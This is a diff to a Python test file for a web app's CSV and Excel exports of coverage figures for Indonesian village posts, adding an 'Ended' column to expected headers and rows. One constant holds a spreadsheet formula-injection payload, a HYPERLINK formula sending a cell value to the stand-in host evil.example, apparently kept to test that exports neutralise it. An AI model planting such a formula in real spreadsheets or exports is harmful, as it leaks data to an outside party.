@@ -25,7 +25,7 @@ Q = "?as_of=2026-11-22"
 AS_OF = dt.date(2026, 11, 22)
 KARANGLEWAS = "33.02.03.2003"
 GUNUNGWETAN = "33.02.03.2001"
-FIGURE_HEADERS = ["Posts", "Covered", "Coverage (%)", "Lapsing soon", "In arrears"]
+FIGURE_HEADERS = ["Posts", "Covered", "Coverage (%)", "Lapsing soon", "In arrears", "Ended"]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 
 
@@ -134,32 +134,34 @@ def test_the_children_export_holds_the_children_table(staff_client, district):
             row.figures.coverage_pct,
             row.figures.lapsing_soon,
             row.figures.in_arrears,
+            row.figures.ended,
             row.area.villages,
             row.candidates,
         ]
         for row in coverage.children
     ]
     totals = coverage.totals
-    footer = ["", "Total", 6, 4, 66.67, 1, 1, None, 1]
+    footer = ["", "Total", 6, 4, 66.67, 1, 1, 0, None, 1]
     assert [
         totals.posts,
         totals.covered,
         totals.coverage_pct,
         totals.lapsing_soon,
         totals.in_arrears,
-    ] == footer[2:7]
+        totals.ended,
+    ] == footer[2:8]
     header = ["Code", "Village", *FIGURE_HEADERS, "Villages", "Desa Sadar candidates"]
 
     rows = read_csv(staff_client.get("/wilayah/33.02.03/ekspor/children.csv" + Q))
     assert rows[0] == header
     assert rows[1:] == [[as_csv(v) for v in row] for row in [*expected, footer]]
-    assert [GUNUNGWETAN, "Gunung Wetan", "2", "2", "100.0", "0", "0", "1", "1"] in rows
+    assert [GUNUNGWETAN, "Gunung Wetan", "2", "2", "100.0", "0", "0", "0", "1", "1"] in rows
 
     rows = read_xlsx(staff_client.get("/wilayah/33.02.03/ekspor/children.xlsx" + Q))
     assert list(rows[0]) == header
     assert [list(row) for row in rows[1:]] == [*expected, [None, *footer[1:]]]
     karanglewas = next(row for row in rows if row[0] == KARANGLEWAS)
-    assert karanglewas[2:7] == (4, 2, 50.0, 1, 1)
+    assert karanglewas[2:8] == (4, 2, 50.0, 1, 1, 0)
     assert all(isinstance(v, int) for v in karanglewas[2:4])
 
 
@@ -167,7 +169,7 @@ def test_the_country_children_export_lists_provinces(staff_client, district):
     rows = read_csv(staff_client.get("/ekspor/children.csv" + Q))
     assert rows[0][:2] == ["Code", "Province"]
     assert [row[0] for row in rows[1:-1]] == ["33", "35", "36"]
-    assert rows[1][2:7] == ["6", "4", "66.67", "1", "1"]
+    assert rows[1][2:8] == ["6", "4", "66.67", "1", "1", "0"]
 
 
 def test_the_categories_export_holds_every_category_and_the_total(staff_client, district):
@@ -175,17 +177,17 @@ def test_the_categories_export_holds_every_category_and_the_total(staff_client, 
     rows = read_xlsx(staff_client.get("/wilayah/33.02/ekspor/categories.xlsx" + Q))
     assert list(rows[0]) == ["Category", *FIGURE_HEADERS]
     assert [row[1:] for row in rows[1:-1]] == [
-        (f.posts, f.covered, f.coverage_pct, f.lapsing_soon, f.in_arrears)
+        (f.posts, f.covered, f.coverage_pct, f.lapsing_soon, f.in_arrears, f.ended)
         for _category, f in coverage.by_category
     ]
     assert rows[1:] == [
-        ("Village officials (perangkat desa)", 4, 3, 75.0, 1, 0),
-        ("Village consultative body (BPD)", 1, 0, 0.0, 0, 1),
-        ("RT/RW officials", 0, 0, None, 0, 0),
-        ("Village community institutions (LKD)", 1, 1, 100.0, 0, 0),
-        ("Civil defence (Satlinmas)", 0, 0, None, 0, 0),
-        ("Other", 0, 0, None, 0, 0),
-        ("Total", 6, 4, 66.67, 1, 1),
+        ("Village officials (perangkat desa)", 4, 3, 75.0, 1, 0, 0),
+        ("Village consultative body (BPD)", 1, 0, 0.0, 0, 1, 0),
+        ("RT/RW officials", 0, 0, None, 0, 0, 0),
+        ("Village community institutions (LKD)", 1, 1, 100.0, 0, 0, 0),
+        ("Civil defence (Satlinmas)", 0, 0, None, 0, 0, 0),
+        ("Other", 0, 0, None, 0, 0, 0),
+        ("Total", 6, 4, 66.67, 1, 1, 0),
     ]
 
 
